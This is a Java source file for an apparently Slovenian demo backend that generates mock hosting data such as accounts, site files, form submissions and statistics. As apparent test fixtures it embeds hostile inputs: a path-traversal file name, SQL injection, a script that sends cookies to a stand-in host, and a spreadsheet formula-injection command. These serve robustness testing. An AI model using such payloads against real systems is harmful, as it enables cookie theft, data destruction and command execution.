package si.vpogled.demo.backend.website;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import si.vpogled.demo.backend.Letters;
import si.vpogled.demo.backend.Listing;
import si.vpogled.demo.people.Customer;
import si.vpogled.demo.people.DemoCustomers;
import si.vpogled.demo.people.Dice;
import si.vpogled.demo.people.Holdings.Site;
import si.vpogled.demo.people.Names;
import si.vpogled.demo.people.Population;

/** All that one site holds. */
record SiteRecords(Population population, Customer customer, Site site) {

    /** A file of the site, by a number rather than by its name, which may be anything. */
    record SiteFile(int id, String name, String mediaType, byte[] content) {}

    List<Map<String, Object>> account() {
        return List.of(Map.of(
                "user", customer.email(),
                "password", password(),
                "activatedOn", customer.since().plusDays(1).toString(),
                "domain", site.domain()));
    }

    private String password() {
        return population.dice("website", site.id()).password();
    }

    List<Map<String, Object>> activationEmails() {
        return List.of(Map.of(
                "sentAt",
                customer.since().plusDays(1) + "T10:05:00Z",
                "recipient",
                customer.email(),
                "subject",
                "Aktivacija spletne strani",
                "text",
                Letters.activation(customer.name(), "spletne strani", customer.email(), password())));
    }

    List<SiteFile> files() {
        Dice dice = population.dice("site", site.id());
        List<SiteFile> files = new ArrayList<>();
        files.add(page(1, "index.html", dice));
        files.add(page(2, "o-nas.html", dice));
        files.add(new SiteFile(3, "slike/naslovna.jpg", "image/jpeg", dice.bytes(30_000)));
        if (site.id().equals(DemoCustomers.COMPANY_SITE)) {
            files.add(page(4, "../../../etc/passwd", dice));
            files.add(page(5, "/absolutno/C:\\Windows\\čudno.html", dice));
            files.add(page(6, "slike/😀 piknik v Žalcu.html", dice));
            files.add(page(7, "d".repeat(300) + ".html", dice));
            files.add(page(8, "con.html", dice));
        }
        return files;
    }

    private SiteFile page(int id, String name, Dice dice) {
        String html = "<!doctype html><html lang=\"sl\"><title>" + site.domain()
                + "</title><script>alert(1)</script><p>" + Names.text(dice, 6) + "</p></html>";
        return new SiteFile(id, name, "text/html", html.getBytes(StandardCharsets.UTF_8));
    }

    List<Map<String, Object>> fileList() {
        return files().stream()
                .map(file -> Map.<String, Object>of(
                        "id", file.id(),
                        "path", file.name(),
                        "mediaType", file.mediaType(),
                        "size", file.content().length,
                        "url", "/api/sites/" + site.id() + "/files/" + file.id()))
                .toList();
    }

    /** The pages by address, in the order of the menu. */
    List<Map<String, Object>> pages() {
        List<SiteFile> pages = files().stream()
                .filter(file -> file.mediaType().equals("text/html"))
                .toList();
        return IntStream.range(0, pages.size())
                .mapToObj(place -> Map.<String, Object>of(
                        "site",
                        site.id(),
                        "path",
                        pages.get(place).name(),
                        "title",
                        place == 0 ? site.domain() : "Stran " + (place + 1),
                        "language",
                        "sl",
                        "menuOrder",
                        place + 1))
                .toList();
    }

    /** Filled-in forms as the list has them; who wrote and what comes with each one's detail. */
    List<Map<String, Object>> submissions() {
        return IntStream.rangeClosed(1, site.id().equals(DemoCustomers.COMPANY_SITE) ? 45 : 4)
                .mapToObj(number -> Map.<String, Object>of(
                        "id",
                        number,
                        "form",
                        "Povpraševanje",
                        "sentAt",
                        population.today().minusDays(number * 3L) + "T12:00:00Z"))
                .toList();
    }

    Map<String, Object> submission(int number) {
        Dice dice = population.dice("submission", site.id(), number);
        String name = Names.person(dice);
        Map<String, Object> submission = new LinkedHashMap<>();
        submission.put("id", number);
        submission.put("name", number == 2 ? "Bobby'); DROP TABLE obrazci;--" : name);
        submission.put("email", Names.plain(name, ".") + "@posta.example");
        submission.put("phone", "+386 40 000 %03d".formatted(dice.below(1000)));
        submission.put("ip", dice.address());
        submission.put(
                "message",
                switch (number) {
                    case 1 -> "<script>document.location='https://zlo.example/'+document.cookie</script><b>Živjo</b>";
                    case 2 -> "=cmd|' /C notepad'!'A1'";
                    case 3 -> "Dolgo sporočilo 😀. " + Names.text(dice, 80);
                    default -> Names.text(dice, 3);
                });
        return submission;
    }

    List<Map<String, Object>> editorStatistics() {
        return IntStream.rangeClosed(1, 30)
                .mapToObj(day -> {
                    Dice dice = population.dice("editor", site.id(), day);
                    return Map.<String, Object>of(
                            "day", population.today().minusDays(day).toString(),
                            "sessions", dice.below(5),
                            "minutes", dice.below(120),
                            "saves", dice.below(30));
                })
                .toList();
    }

    List<Map<String, Object>> visitorStatistics() {
        return IntStream.rangeClosed(1, 90)
                .mapToObj(day -> {
                    Dice dice = population.dice("visits", site.id(), day);
                    return Map.<String, Object>of(
                            "day", population.today().minusDays(day).toString(),
                            "visitors", dice.between(3, 200),
                            "pages", dice.between(10, 900),
                            "topPage", "/index.html");
                })
                .toList();
    }

    List<Map<String, Object>> backups() {
        return IntStream.rangeClosed(1, 5)
                .mapToObj(week -> Map.<String, Object>of(
                        "name", site.id() + "-" + population.today().minusWeeks(week) + ".zip",
                        "size", 900_000 + week,
                        "madeAt", population.today().minusWeeks(week) + "T03:00:00Z"))
                .toList();
    }

    Listing accessLog() {
        return new Listing(site.accesses(), index -> {
            Dice dice = population.dice("editor-log", site.id(), index);
            return Map.of(
                    "at",
                    population.today().minusDays(index % 700 + 1L) + "T1" + dice.below(10) + ":20:00Z",
                    "user",
                    customer.email(),
                    "ip",
                    dice.address(),
                    "action",
                    dice.oneIn(3) ? "objava" : "prijava");
        });
    }
}
